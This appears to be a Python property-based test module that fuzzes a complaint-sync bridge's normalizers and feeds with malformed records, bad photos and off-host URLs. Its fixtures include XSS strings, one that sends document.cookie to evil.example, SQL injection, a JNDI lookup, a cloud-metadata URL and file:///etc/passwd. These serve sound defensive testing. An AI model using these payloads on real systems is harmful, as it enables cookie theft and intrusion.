"""Hostile input: every malformed record ends quarantined with a reason, or handled — never a crash.

Two layers, each property-based:

* every adapter's normalizer gets records built from a valid one and then
  broken — fields missing or of the wrong type, empty and 1 MB texts, HTML and
  script, SQL-looking strings, control and zero-width characters, impossible
  coordinates, dates in the year 9999 or 0001, photo lists pointing anywhere.
  It returns a complaint the engine can carry (fingerprint, LAPOR's title and
  content rules) or raises ``NormalizeError``; nothing else;
* every sandbox's feed serves such records over HTTP, in the same page as valid
  ones, to the real client and engine: each broken record is quarantined with a
  reason or synced, every valid record still reaches LAPOR, the pass does not
  fail. The logs of those runs hold none of the secrets, names, phone numbers
  or NIK that went through them.

Photos get their own cases: enormous, truncated, not an image, empty, a
header claiming 81 megapixels, and a URL off the app's host (a honeypot
counts whether the bridge fetched it).

Bugs these runs found are kept fixed at the end by the smallest test that
shows each. A record the bridge quarantines only because something crashed
on it ("could not process this record") fails the properties too: the engine
keeps such a record rather than stall its feed, but it is still a bug.
"""

from __future__ import annotations

import contextlib
import copy
import io
import json
import math
import random
import re
import struct
import tempfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import structlog
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from adapters.local import sample
from adapters.local.open311 import normalize as open311_normalize
from adapters.local.sambat import normalize as sambat_normalize
from adapters.local.tanjak import normalize as tanjak_normalize
from adapters.local.ujar import normalize as ujar_normalize
from adapters.sandbox.region import (
    OPEN311_KEY,
    SAMBAT_LOGIN,
    SECRETS,
    TANJAK_KEY,
    UJAR_CLIENT,
    Region,
)
from adapters.sandbox.server import Request, Response, SandboxServer
from bridge.core.errors import NormalizeError
from bridge.core.model import Complaint
from bridge.core.plan import fingerprint
from bridge.core.text import compose_content, compose_title
from bridge.runtime import logs
from bridge.runtime.settings import load_settings
from bridge.sync.engine import PassReport
from bridge.sync.store import Store
from tests.harness import sync_once

MISSING = object()  # a mutation that removes the key
HONEYPOT = "@@HONEYPOT@@"
CRASHED = "could not process this record"  # the engine's reason when a record crashed it  # replaced by the honeypot server's URL when served


class Long(str):
    """A long text that prints short: hypothesis shows failing examples, and 1 MB is no help."""

    def __repr__(self) -> str:
        return f"Long({self[:20]!r}… {len(self):,} characters)"


#: texts no app should ever send, and that every app eventually does
HOSTILE_TEXTS = (
    "",
    "   ",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/?c='+document.cookie)\">",
    "'; DROP TABLE mappings; --",
    "Robert'); DELETE FROM intents WHERE 1=1; --",
    "1 OR 1=1",
    "\x00\x01\x02\x1b[31mmerah\x1b[0m\x7f",
    "\u202eRTL override\u202c \u200b\u200d\ufeff",
    "\ufffd\ufffd tak terbaca \ufffd",
    "🚧🕳️🚗💥" * 50,
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s %n %x",
    Long("A" * 1_000_000),
    Long("Jalan rusak. " * 80_000),  # a 1 MB letter of real words
)
FUTURE_AND_ANCIENT = (
    "9999-12-31T23:59:59+07:00",
    "9999-12-31T23:59:59-05:00",
    "2999-01-01T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+07:00",
    "1900-01-01T00:00:00+07:00",
    "1970-01-01T00:00:00Z",
    "2026-13-45T99:99:99Z",
    "2026-02-30T10:00:00+07:00",
    "2026-01-01T10:00:00",  # no offset
    "kemarin sore",
)
OFF_HOST_URLS = (
    HONEYPOT + "/steal.jpg",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "//evil.example/x.jpg",
    "ftp://evil.example/x.jpg",
)
IMPOSSIBLE_NUMBERS = (
    math.nan,
    math.inf,
    -math.inf,
    999.0,
    -91.0,
    181,
    0,
    1e308,
    2**70,
    -(2**63),
)


def anything() -> st.SearchStrategy[Any]:
    """A value of any JSON type, hostile ones included (no lone surrogates: see below)."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=True, allow_infinity=True),
        st.text(max_size=40),
        st.sampled_from(HOSTILE_TEXTS),
        st.sampled_from(FUTURE_AND_ANCIENT),
        st.sampled_from(IMPOSSIBLE_NUMBERS),
    )
    return st.recursive(
        scalars,
        lambda inner: st.one_of(
            st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
        ),
        max_leaves=6,
    )


# --- the apps: how to file a valid record, and what a broken one looks like ---------------


@dataclass(frozen=True)
class App:
    name: str
    id_key: str
    #: field → strategies of values that field is likely to be broken with
    fields: Mapping[str, st.SearchStrategy[Any]]
    file: Callable[[Region, random.Random], str]
    records_in: Callable[[Any], list[dict[str, Any]]]
    served_id: Callable[[Mapping[str, Any]], str]
    normalize: Callable[..., Complaint]
    server: Callable[[Region], SandboxServer]
    wire: Callable[[Region, str], dict[str, Any]]


def _person(rng: random.Random, city: str = "tanjungpinang") -> sample.Person:
    person = sample.person(rng, city)
    PEOPLE.append(person)
    return person


#: every citizen the hostile runs filed: none of them may reach a log
PEOPLE: list[sample.Person] = []


def _file_tanjak(region: Region, rng: random.Random) -> str:
    person = _person(rng)
    where = sample.place(rng)
    aduan = region.tanjak.add_aduan(
        isi=sample.complaint(rng, where=where).text,
        lokasi={"lat": where.lat, "lng": where.lng, "alamat": where.address},
        pelapor={"nama": person.name, "hp": person.phone, "nik": person.nik},
    )
    return str(aduan["id"])


def _file_ujar(region: Region, rng: random.Random) -> str:
    person = _person(rng)
    where = sample.place(rng)
    ticket = region.ujar.add_ticket(
        message=sample.complaint(rng, where=where).text,
        userName=person.name,
        userPhone=person.phone,
        location=f"{where.lat:.5f},{where.lng:.5f}",
    )
    return str(ticket["ticketNo"])


def _file_sambat(region: Region, rng: random.Random) -> str:
    person = _person(rng, "malang")
    record = region.sambat.add_sambat(
        isi_sambat=sample.complaint(rng, where=sample.place(rng, "malang")).text,
        kategori="Sampah",
        nama=person.name,
        hp=person.phone,
    )
    return str(record["no_tiket"])


def _file_open311(region: Region, rng: random.Random) -> str:
    person = _person(rng)
    given_name, _, family = person.name.partition(" ")
    request = region.open311.add_request(
        service_code="SAMPAH",
        description=sample.complaint(rng).text,
        first_name=given_name,
        last_name=family,
        phone=person.phone,
    )
    return str(request["service_request_id"])


def _list_or_one(key: str, id_key: str) -> Callable[[Any], list[dict[str, Any]]]:
    def records_in(body: Any) -> list[dict[str, Any]]:
        if isinstance(body, list):
            return [item for item in body if isinstance(item, dict) and id_key in item]
        if not isinstance(body, dict):
            return []
        inner = body.get(key)
        if isinstance(inner, list):
            return [item for item in inner if isinstance(item, dict)]
        if isinstance(inner, dict):
            return [inner]
        return [body] if id_key in body else []

    return records_in


def _text_id(value: Any) -> str:
    return str(value).strip() if isinstance(value, str) else ""


def _open311_id(item: Mapping[str, Any]) -> str:
    value = item.get("service_request_id")
    if isinstance(value, bool) or not isinstance(value, str | int) or not str(value).strip():
        return "?"
    return str(value).strip()


def _timestamps() -> st.SearchStrategy[Any]:
    return st.one_of(st.sampled_from(FUTURE_AND_ANCIENT), anything())


def _ms() -> st.SearchStrategy[Any]:
    """Ujar's epoch milliseconds, broken."""
    return st.one_of(
        st.sampled_from([0, -1, 2**63, 253_402_300_800_000, 1e20, 1.5, "1700000000000"]),
        anything(),
    )


def _sambat_times() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.sampled_from(["31/12/9999 23:59", "01/01/0001 00:00", "32/13/2026 25:61", "kemarin"]),
        anything(),
    )


def _photos() -> st.SearchStrategy[Any]:
    urls = st.sampled_from(OFF_HOST_URLS)
    return st.one_of(
        st.lists(st.one_of(urls, anything()), max_size=4),
        st.lists(
            st.fixed_dictionaries({"url": urls, "mime": st.sampled_from(["image/jpeg", "x"])})
        ),
        urls,
        anything(),
    )


def _texts() -> st.SearchStrategy[Any]:
    return st.one_of(st.sampled_from(HOSTILE_TEXTS), anything())


def _coordinates() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.sampled_from(IMPOSSIBLE_NUMBERS),
        st.sampled_from(["NaN", "1e999", "-91", "abc", "0,0", "999,999", "nan,nan", ""]),
        anything(),
    )


def _answers(text_key: str, time_key: str, time: st.SearchStrategy[Any]) -> Any:
    entry = st.fixed_dictionaries(
        {"id": anything(), text_key: _texts(), time_key: time, "ref": _texts()}
    )
    return st.one_of(st.lists(st.one_of(entry, anything()), max_size=3), anything())


APPS: dict[str, App] = {
    "tanjak": App(
        name="tanjak",
        id_key="id",
        fields={
            "id": anything(),
            "judul": _texts(),
            "isi": _texts(),
            "kategori": _texts(),
            "status": _texts(),
            "lokasi": st.one_of(
                st.fixed_dictionaries(
                    {"lat": _coordinates(), "lng": _coordinates(), "alamat": _texts()}
                ),
                anything(),
            ),
            "foto": _photos(),
            "pelapor": st.one_of(
                st.fixed_dictionaries({"nama": _texts(), "hp": _texts(), "nik": _texts()}),
                anything(),
            ),
            "anonim": anything(),
            "rahasia": anything(),
            "lapor_id": st.one_of(
                st.sampled_from(["#0", "-5", "#12a", "##1", "9" * 40]), anything()
            ),
            "tanggapan": _answers("isi", "waktu", _timestamps()),
            "dibuat_pada": _timestamps(),
            "diperbarui_pada": _timestamps(),
        },
        file=_file_tanjak,
        records_in=_list_or_one("data", "id"),
        served_id=lambda item: str(item.get("id")),
        normalize=tanjak_normalize.normalize,
        server=lambda r: r.tanjak,
        wire=lambda r, i: r.tanjak.aduan(int(i)),
    ),
    "ujar": App(
        name="ujar",
        id_key="ticketNo",
        fields={
            "ticketNo": anything(),
            "message": _texts(),
            "categoryCode": _texts(),
            "statusCode": anything(),
            "location": _coordinates(),
            "address": _texts(),
            "userName": _texts(),
            "userPhone": _texts(),
            "anonymous": anything(),
            "photos": _photos(),
            "external": st.one_of(
                st.lists(
                    st.fixed_dictionaries({"system": _texts(), "ref": anything()}), max_size=2
                ),
                anything(),
            ),
            "responses": _answers("text", "at", _ms()),
            "createdAt": _ms(),
            "updatedAt": _ms(),
        },
        file=_file_ujar,
        records_in=_list_or_one("items", "ticketNo"),
        served_id=lambda item: str(item.get("ticketNo")),
        normalize=ujar_normalize.normalize,
        server=lambda r: r.ujar,
        wire=lambda r, i: r.ujar.ticket(i),
    ),
    "sambat": App(
        name="sambat",
        id_key="no_tiket",
        fields={
            "no_tiket": anything(),
            "isi_sambat": _texts(),
            "kategori": _texts(),
            "status": _texts(),
            "nama": _texts(),
            "hp": _texts(),
            "lat": _coordinates(),
            "lng": _coordinates(),
            "kelurahan": _texts(),
            "foto": _photos(),
            "id_lapor": st.one_of(st.sampled_from(["#0", "abc", "#", "9" * 40]), anything()),
            "tanggapan": _answers("isi", "tgl", _sambat_times()),
            "tgl_masuk": _sambat_times(),
            "tgl_update": _sambat_times(),
        },
        file=_file_sambat,
        records_in=_list_or_one("data", "no_tiket"),
        served_id=lambda item: _text_id(item.get("no_tiket")),
        normalize=sambat_normalize.normalize,
        server=lambda r: r.sambat,
        wire=lambda r, i: r.sambat.sambat(i),
    ),
    "kota-contoh": App(
        name="kota-contoh",
        id_key="service_request_id",
        fields={
            "service_request_id": anything(),
            "status": _texts(),
            "service_code": _texts(),
            "service_name": _texts(),
            "description": _texts(),
            "agency_responsible": _texts(),
            "requested_datetime": _timestamps(),
            "updated_datetime": _timestamps(),
            "lat": _coordinates(),
            "long": _coordinates(),
            "address": _texts(),
            "media_url": st.one_of(st.sampled_from(OFF_HOST_URLS), anything()),
        },
        file=_file_open311,
        records_in=_list_or_one("service_requests", "service_request_id"),
        served_id=_open311_id,
        normalize=open311_normalize.normalize,
        server=lambda r: r.open311,
        wire=lambda r, i: {"request": r.open311.request(i), "updates": []},
    ),
}


def mutations(app: App) -> st.SearchStrategy[list[tuple[str, Any]]]:
    """One to four fields of ``app`` broken: removed, or set to a hostile value."""
    one = st.sampled_from(sorted(app.fields)).flatmap(
        lambda name: st.tuples(st.just(name), st.one_of(st.just(MISSING), app.fields[name]))
    )
    return st.lists(one, min_size=1, max_size=4)


def broken(
    record: Mapping[str, Any], changes: list[tuple[str, Any]], honeypot: str
) -> dict[str, Any]:
    out = copy.deepcopy(dict(record))
    for name, value in changes:
        if value is MISSING:
            out.pop(name, None)
        else:
            out[name] = json.loads(json.dumps(value).replace(HONEYPOT, honeypot))
    return out


# --- layer 1: the normalizers, pure --------------------------------------------------------


@pytest.fixture(scope="module")
def wires() -> Iterator[dict[str, list[dict[str, Any]]]]:
    """Valid records as each app's API shows them, to break."""
    rng = random.Random(5)
    with Region(seed=5) as region:
        region.seed_sample(6, rng)
        updates = region.open311.updates()
        yield {
            "tanjak": region.tanjak.all_aduan(),
            "ujar": region.ujar.all_tickets(),
            "sambat": region.sambat.all_sambat(),
            "kota-contoh": [
                {
                    "request": {
                        k: v
                        for k, v in q.items()
                        if k not in ("first_name", "last_name", "phone", "email", "attributes")
                    },
                    "updates": [
                        u for u in updates if u["service_request_id"] == q["service_request_id"]
                    ],
                }
                for q in region.open311.all_requests()
            ],
        }


def carried(complaint: Complaint) -> None:
    """What the engine does with a normalized complaint before any I/O."""
    assert complaint.local_id.strip()
    assert complaint.created_at.tzinfo is not None and complaint.updated_at.tzinfo is not None
    fingerprint(complaint)
    title = compose_title(complaint.title, complaint.content, complaint.category)
    content = compose_content(complaint.content, [], "the city app")
    assert 10 <= len(title) <= 150 and len(content) <= 5000


def refused_with_a_reason_or_carried(app: App, payload: Any) -> None:
    try:
        complaint = app.normalize(payload, source=app.name, region="21.72")
    except NormalizeError as exc:
        assert str(exc).strip(), "a quarantine reason must say something"
        return
    carried(complaint)


HYPOTHESIS = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.mark.parametrize("name", sorted(APPS))
def test_every_broken_record_is_refused_with_a_reason_or_carried(
    name: str, wires: dict[str, list[dict[str, Any]]]
) -> None:
    app = APPS[name]

    @HYPOTHESIS
    @given(pick=st.integers(0, 10_000), changes=mutations(app), nested=st.booleans())
    def check(pick: int, changes: list[tuple[str, Any]], nested: bool) -> None:
        record = wires[name][pick % len(wires[name])]
        if name == "kota-contoh":
            request = broken(record["request"], changes, "http://127.0.0.1:9")
            updates = copy.deepcopy(record["updates"])
            if nested and updates:
                updates[0] = broken(updates[0], [(k, v) for k, v in changes if k in updates[0]], "")
            refused_with_a_reason_or_carried(app, {"request": request, "updates": updates})
        else:
            refused_with_a_reason_or_carried(app, broken(record, changes, "http://127.0.0.1:9"))

    check()


@pytest.mark.parametrize("name", sorted(APPS))
@pytest.mark.parametrize("payload", [None, [], "aduan", 42, {"value": None}, {}])
def test_a_record_that_is_not_an_object_is_refused(name: str, payload: Any) -> None:
    with pytest.raises(NormalizeError):
        APPS[name].normalize(payload, source=name, region="21.72")


# --- layer 2: the feeds over HTTP, through the real clients and engine -------------------


class Tamper:
    """Breaks records on their way out of a sandbox, in whichever answer carries them.

    The sandbox's own store stays valid (its ``corrupt()`` cannot remove a
    key, and Sambat and Open311 have none); what the bridge reads is broken.
    """

    def __init__(self, server: SandboxServer, app: App, honeypot: str) -> None:
        self.app = app
        self.honeypot = honeypot
        self.changes: dict[str, list[tuple[str, Any]]] = {}
        self.served: dict[str, dict[str, Any]] = {}
        #: placeholders swapped for raw bytes once serialized: what JSON cannot express
        self.raw: dict[bytes, bytes] = {}
        original = server.dispatch

        def dispatch(request: Request) -> Response:
            response = original(request)
            if not self.changes or not response.content_type.startswith("application/json"):
                return response
            body = json.loads(response.body)
            for item in app.records_in(body):
                true_id = str(item.get(app.id_key))
                if true_id in self.changes:
                    tampered = broken(item, self.changes[true_id], self.honeypot)
                    item.clear()
                    item.update(tampered)
                    self.served[true_id] = tampered
            data = json.dumps(body, ensure_ascii=False, allow_nan=True).encode("utf-8")
            for placeholder, raw in self.raw.items():
                data = data.replace(placeholder, raw)
            return Response(response.status, data, response.content_type, response.headers)

        server.dispatch = dispatch  # type: ignore[method-assign]


def one_pass(config: Path, source: str) -> PassReport:
    return sync_once(config, [source])


class Honeypot(SandboxServer):
    """Another host: whatever the bridge fetches from here, it should not have."""

    def __init__(self) -> None:
        super().__init__()
        self.router.add("GET", r"/.*", lambda _: Response(200, sample_jpeg(), "image/jpeg"))


def sample_jpeg(width: int = 64, height: int = 48) -> bytes:
    return sample.make_jpeg(random.Random(width * height), width, height)


@pytest.fixture(scope="module")
def captured_logs() -> Iterator[io.StringIO]:
    """Everything the hostile runs log, checked at the end for secrets and citizens' data."""
    saved = structlog.get_config()
    buffer = io.StringIO()
    logs.configure("debug", "json", buffer)
    try:
        yield buffer
    finally:
        structlog.configure(**saved)


FEED = settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.mark.timeout(420)
@pytest.mark.parametrize("name", sorted(APPS))
def test_broken_records_in_a_page_are_quarantined_and_the_valid_ones_still_sync(
    name: str, captured_logs: io.StringIO
) -> None:
    app = APPS[name]

    @FEED
    @given(
        seed=st.integers(0, 2**16),
        valid=st.integers(1, 4),
        hostile=st.lists(mutations(app), min_size=1, max_size=4),
    )
    def check(seed: int, valid: int, hostile: list[list[tuple[str, Any]]]) -> None:
        run_feed(app, random.Random(seed), valid, hostile)

    check()


def run_feed(
    app: App, rng: random.Random, valid: int, hostile: list[list[tuple[str, Any]]]
) -> None:
    with contextlib.ExitStack() as stack:
        tmp = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        region = stack.enter_context(Region(seed=rng.randrange(1000)))
        honeypot = stack.enter_context(Honeypot())
        tamper = Tamper(app.server(region), app, honeypot.url)
        # valid and broken records interleaved in one page
        good: list[str] = []
        bad: list[str] = []
        for n in range(valid + len(hostile)):
            local_id = app.file(region, rng)
            if (n % 2 and len(bad) < len(hostile)) or len(good) == valid:
                changes = hostile[len(bad)]
                wire = app.wire(region, local_id)
                if app.name == "kota-contoh":
                    wire["request"] = broken(wire["request"], changes, honeypot.url)
                    refused_with_a_reason_or_carried(app, wire)
                else:
                    refused_with_a_reason_or_carried(app, broken(wire, changes, honeypot.url))
                tamper.changes[local_id] = changes
                bad.append(local_id)
            else:
                good.append(local_id)
        config = tmp / "config.toml"
        config.write_text(region.config(tmp / "bridge.db"), encoding="utf-8")

        report = one_pass(config, app.name)
        assert report.sources[app.name].ok, report.sources[app.name].error

        store = Store(tmp / "bridge.db")
        try:
            quarantined = {(q.source, q.local_id): q for q in store.quarantined()}
            for local_id in good:
                mapping = store.mapping(app.name, local_id)
                assert mapping is not None and mapping.national_id, f"{local_id} not synced"
                assert (app.name, local_id) not in quarantined
            held: list[str] = []
            for local_id in bad:
                served = tamper.served.get(local_id)
                assert served is not None, f"{local_id} was never served"
                seen_as = app.served_id(served)
                if app.name == "kota-contoh" and seen_as == "?":
                    # open311.md: a request without an id is ignored, not quarantined,
                    # and its window is read again until the request shows one
                    assert (app.name, seen_as) not in quarantined
                    held.append(local_id)
                    continue
                entry = quarantined.get((app.name, seen_as))
                mapping = store.mapping(app.name, seen_as)
                handled = entry is not None or (mapping is not None and mapping.national_id)
                assert handled, f"{local_id} (seen as {seen_as!r}) neither quarantined nor synced"
                if entry is not None:
                    assert entry.reason.strip()
            crashed = [q.reason for q in quarantined.values() if CRASHED in q.reason]
            assert crashed == [], "the bridge crashed on a record (kept, but a bug)"
        finally:
            store.close()
        if held:
            for local_id in held:  # the server now shows the request whole, its id too
                del tamper.changes[local_id]
            report = one_pass(config, app.name)
            assert report.sources[app.name].ok, report.sources[app.name].error
            store = Store(tmp / "bridge.db")
            try:
                for local_id in held:
                    mapping = store.mapping(app.name, local_id)
                    assert mapping is not None and mapping.national_id, (
                        f"{local_id}, listed without an id, was not read again once it had one"
                    )
            finally:
                store.close()
        tags = [t for c in region.lapor.complaints() for t in c["tags"] if t.startswith("ext-")]
        assert len(tags) == len(set(tags))
        assert honeypot.count_requests("GET", r".*") == 0, "fetched a photo off the app's host"


# --- photos -------------------------------------------------------------------------------


def enormous_jpeg() -> bytes:
    """About 9 MB of noise that does not compress: must be shrunk under LAPOR's 2 MB."""
    rng = random.Random(1)
    image = Image.frombytes("RGB", (2400, 1800), rng.randbytes(2400 * 1800 * 3))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=98)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A few bytes of PNG whose header claims ``width`` × ``height`` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 4)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


PHOTOS: dict[str, Callable[[], bytes]] = {
    "enormous": enormous_jpeg,
    "truncated": lambda: sample_jpeg(320, 240)[:600],
    "html_not_an_image": lambda: b"<html><body>502 Bad Gateway</body></html>",
    "empty": lambda: b"",
    "claims_81_megapixels": lambda: png_claiming(9000, 9000),
}


@pytest.mark.timeout(300)
@pytest.mark.parametrize("kind", sorted(PHOTOS))
def test_a_bad_photo_never_blocks_its_complaint(kind: str, captured_logs: io.StringIO) -> None:
    data = PHOTOS[kind]()
    rng = random.Random(11)
    with contextlib.ExitStack() as stack:
        tmp = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        region = stack.enter_context(Region(seed=11))
        filed = {
            "tanjak": _file_tanjak(region, rng),
            "ujar": _file_ujar(region, rng),
            "sambat": _file_sambat(region, rng),
        }
        region.tanjak.add_photo(int(filed["tanjak"]), data)
        region.tanjak.add_photo(int(filed["tanjak"]), sample_jpeg())  # a good one alongside
        region.ujar.add_photo(filed["ujar"], data)
        region.sambat.add_photo(filed["sambat"], data)
        config = tmp / "config.toml"
        config.write_text(region.config(tmp / "bridge.db"), encoding="utf-8")
        for source, local_id in filed.items():
            report = one_pass(config, source)
            assert report.sources[source].ok, report.sources[source].error
            (national,) = region.lapor.find_by_tag(f"ext-{source}-{local_id.lower()}")
            assert len(national["attachments"]) <= (2 if source == "tanjak" else 1)
        tanjak = region.lapor.find_by_tag(f"ext-tanjak-{filed['tanjak']}")[0]
        if kind == "enormous":
            assert len(tanjak["attachments"]) == 2  # shrunk under 2 MB, not dropped
        else:
            assert len(tanjak["attachments"]) == 1  # the good photo still went


def test_a_photo_url_off_the_apps_host_is_never_fetched(captured_logs: io.StringIO) -> None:
    rng = random.Random(12)
    with contextlib.ExitStack() as stack:
        tmp = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        region = stack.enter_context(Region(seed=12))
        honeypot = stack.enter_context(Honeypot())
        aduan = _file_tanjak(region, rng)
        ticket = _file_ujar(region, rng)
        # the apps' own corrupt(): their wire now points elsewhere, the key would travel along
        region.tanjak.corrupt(int(aduan), foto=[f"{honeypot.url}/a.jpg", "file:///etc/passwd"])
        region.ujar.corrupt(ticket, photos=[{"url": f"{honeypot.url}/b.jpg", "mime": "image/jpeg"}])
        config = tmp / "config.toml"
        config.write_text(region.config(tmp / "bridge.db"), encoding="utf-8")
        for source, local_id in (("tanjak", aduan), ("ujar", ticket)):
            report = one_pass(config, source)
            assert report.sources[source].ok, report.sources[source].error
            (national,) = region.lapor.find_by_tag(f"ext-{source}-{local_id.lower()}")
            assert national["attachments"] == []
        assert honeypot.count_requests("GET", r".*") == 0


# --- bugs the hostile runs found, each kept fixed by the smallest test that shows it ---------


def tanjak_page_with(raw: bytes, tmp: Path, region: Region) -> tuple[list[str], str, Path]:
    """Two valid aduan and, between them, one whose text carries ``raw`` on the wire."""
    rng = random.Random(21)
    tamper = Tamper(region.tanjak, APPS["tanjak"], "")
    first = _file_tanjak(region, rng)
    poisoned = _file_tanjak(region, rng)
    last = _file_tanjak(region, rng)
    tamper.changes[poisoned] = [("isi", "Banjir di depan @@RAW@@ pasar, air setinggi lutut.")]
    tamper.raw[b"@@RAW@@"] = raw
    config = tmp / "config.toml"
    config.write_text(region.config(tmp / "bridge.db"), encoding="utf-8")
    return [first, last], poisoned, config


def assert_page_survives(config: Path, valid: list[str], poisoned: str) -> None:
    report = one_pass(config, "tanjak")
    assert report.sources["tanjak"].ok, report.sources["tanjak"].error
    store = Store(load_settings(config).bridge.database)
    try:
        for local_id in valid:
            assert store.mapping("tanjak", local_id) is not None, f"{local_id} not synced"
        handled = store.mapping("tanjak", poisoned) or [
            q for q in store.quarantined("tanjak") if q.local_id == poisoned
        ]
        assert handled, "the poisoned record is neither synced nor quarantined"
    finally:
        store.close()


# a bug the hostile run found, fixed: this test keeps it fixed
def test_a_lone_surrogate_in_a_text_is_quarantined_not_a_crash(captured_logs: io.StringIO) -> None:
    with tempfile.TemporaryDirectory() as tmp, Region(seed=21) as region:
        valid, poisoned, config = tanjak_page_with(b"\\ud800", Path(tmp), region)
        assert_page_survives(config, valid, poisoned)


# a bug the hostile run found, fixed: this test keeps it fixed
def test_an_invalid_utf8_byte_in_one_record_does_not_stall_the_page(
    captured_logs: io.StringIO,
) -> None:
    with tempfile.TemporaryDirectory() as tmp, Region(seed=22) as region:
        valid, poisoned, config = tanjak_page_with(b"\xff\xfe", Path(tmp), region)
        assert_page_survives(config, valid, poisoned)


# a bug the hostile run found, fixed: this test keeps it fixed
def test_a_record_dated_in_the_future_does_not_hide_the_records_after_it(
    captured_logs: io.StringIO,
) -> None:
    rng = random.Random(23)
    with tempfile.TemporaryDirectory() as tmp, Region(seed=23) as region:
        config = Path(tmp) / "config.toml"
        config.write_text(region.config(Path(tmp) / "bridge.db"), encoding="utf-8")
        odd = _file_tanjak(region, rng)
        region.tanjak.corrupt(int(odd), diperbarui_pada="2099-01-01T00:00:00+07:00")
        assert one_pass(config, "tanjak").ok
        later = _file_tanjak(region, rng)
        for _ in range(2):
            assert one_pass(config, "tanjak").ok
        assert len(region.lapor.find_by_tag(f"ext-tanjak-{later}")) == 1, "filed later, lost"


# a bug the hostile run found, fixed: this test keeps it fixed
def test_a_photo_claiming_900_megapixels_is_skipped_not_a_crash(
    captured_logs: io.StringIO,
) -> None:
    rng = random.Random(24)
    with tempfile.TemporaryDirectory() as tmp, Region(seed=24) as region:
        config = Path(tmp) / "config.toml"
        config.write_text(region.config(Path(tmp) / "bridge.db"), encoding="utf-8")
        aduan = _file_tanjak(region, rng)
        region.tanjak.add_photo(int(aduan), png_claiming(30000, 30000))
        report = one_pass(config, "tanjak")
        assert report.sources["tanjak"].ok, report.sources["tanjak"].error
        assert len(region.lapor.find_by_tag(f"ext-tanjak-{aduan}")) == 1


# a bug the hostile run found, fixed: this test keeps it fixed
def test_a_complaint_dated_9999_is_quarantined_not_a_crash(captured_logs: io.StringIO) -> None:
    rng = random.Random(25)
    with tempfile.TemporaryDirectory() as tmp, Region(seed=25) as region:
        config = Path(tmp) / "config.toml"
        config.write_text(region.config(Path(tmp) / "bridge.db"), encoding="utf-8")
        odd = _file_tanjak(region, rng)
        region.tanjak.corrupt(int(odd), dibuat_pada="9999-12-31T23:59:59+07:00")
        after = _file_tanjak(region, rng)
        report = one_pass(config, "tanjak")
        assert report.sources["tanjak"].ok, report.sources["tanjak"].error
        assert len(region.lapor.find_by_tag(f"ext-tanjak-{after}")) == 1


# a bug the hostile run found, fixed: this test keeps it fixed
def test_a_tanjak_status_that_is_a_list_is_quarantined(
    wires: dict[str, list[dict[str, Any]]],
) -> None:
    record = {**wires["tanjak"][0], "status": ["baru"]}
    with pytest.raises(NormalizeError):
        tanjak_normalize.normalize(record, source="tanjak", region="21.72")


EDGE_OF_TIME = {
    # .NET's DateTime.MinValue written with the server's offset: a classic "no date"
    "tanjak": ("dibuat_pada", "0001-01-01T00:00:00+07:00"),
    "sambat": ("tgl_masuk", "01/01/0001 00:00"),
    "kota-contoh": ("requested_datetime", "0001-01-01T00:00:00+07:00"),
}


# a bug the hostile run found, fixed: this test keeps it fixed
@pytest.mark.parametrize("name", sorted(EDGE_OF_TIME))
def test_a_date_at_the_edge_of_time_is_quarantined(
    name: str, wires: dict[str, list[dict[str, Any]]]
) -> None:
    field_name, value = EDGE_OF_TIME[name]
    record = copy.deepcopy(wires[name][0])
    if name == "kota-contoh":
        record["request"][field_name] = value
    else:
        record[field_name] = value
    with pytest.raises(NormalizeError):
        APPS[name].normalize(record, source=name, region="21.72")


# a bug the hostile run found, fixed: this test keeps it fixed
def test_an_open311_update_dated_9999_is_quarantined(
    wires: dict[str, list[dict[str, Any]]],
) -> None:
    record = copy.deepcopy(next(w for w in wires["kota-contoh"] if w["updates"]))
    record["updates"][0]["updated_datetime"] = "9999-12-31T23:59:59+07:00"
    record["updates"][0]["description"] = "Petugas sudah dijadwalkan."
    with pytest.raises(NormalizeError, match="not a plausible time"):
        APPS["kota-contoh"].normalize(record, source="kota-contoh", region="21.72")


# --- the logs of every run above ------------------------------------------------------------


def test_the_logs_of_the_hostile_runs_hold_no_secret_nor_personal_data(
    captured_logs: io.StringIO,
) -> None:
    """Runs last in this module (pytest keeps file order): every hostile run above logged here."""
    text = captured_logs.getvalue()
    assert '"event"' in text, "nothing was logged: the check below would prove nothing"
    secrets = [
        *(s for pair in SECRETS.values() for s in pair),
        TANJAK_KEY,
        UJAR_CLIENT[1],
        SAMBAT_LOGIN[1],
        OPEN311_KEY,
    ]
    found = [s[:6] + "…" for s in secrets if s in text]
    assert PEOPLE, "no citizen went through the runs"
    for person in PEOPLE:
        digits = re.sub(r"\D", "", person.phone)
        local = "0" + digits[2:] if digits.startswith("62") else digits
        for value in {person.nik, person.phone, local, "+62" + local[1:]}:
            if value in text:
                found.append(value)
        if " " in person.name and person.name in text:
            found.append(person.name)
    assert not found, found
